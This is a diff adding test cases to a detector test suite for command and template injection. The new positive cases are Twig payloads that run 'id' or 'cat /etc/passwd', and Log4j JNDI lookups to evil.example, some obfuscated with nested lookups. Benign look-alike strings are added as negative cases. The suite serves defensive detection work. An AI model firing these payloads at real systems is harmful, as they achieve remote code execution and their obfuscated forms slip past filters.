@@ -192,6 +192,22 @@ describe('command injection: templates and pattern expansions', () => {
         '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id")}',
         'cmd-template-injection',
       ],
+      // Twig's filters handed a PHP function that runs a command, its undefined-filter callback
+      ["{{['id']|filter('system')}}", 'cmd-template-injection'],
+      ["{{['cat /etc/passwd']|map('passthru')|join}}", 'cmd-template-injection'],
+      [
+        '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
+        'cmd-template-injection',
+      ],
+      // Log4j's JNDI lookup, plain and spelled by nested lookups
+      ['${jndi:ldap://evil.example/a}', 'cmd-template-injection'],
+      ['User-Agent: ${jndi:rmi://evil.example:1099/x}', 'cmd-template-injection'],
+      ['${jndi:${lower:l}${lower:d}ap://evil.example/a}', 'cmd-template-injection'],
+      ['${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}', 'cmd-template-injection'],
+      [
+        '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}',
+        'cmd-template-injection',
+      ],
     ],
     [
       'hey {{name}}, welcome',
@@ -204,6 +220,12 @@ describe('command injection: templates and pattern expansions', () => {
       'echo ${HOME}',
       'see /etc/passwd {{ docs }}',
       'we use freemarker.template.utility.Execute in the docs',
+      '{{ items|filter(x => x.active) }}',
+      "{{ users|filter('is_active') }}",
+      'use ${jndi} in the config',
+      'the log4shell bug used jndi:ldap lookups',
+      '${url:http://localhost:8080}',
+      '${API_URL:-http://localhost}',
     ],
     true,
   )
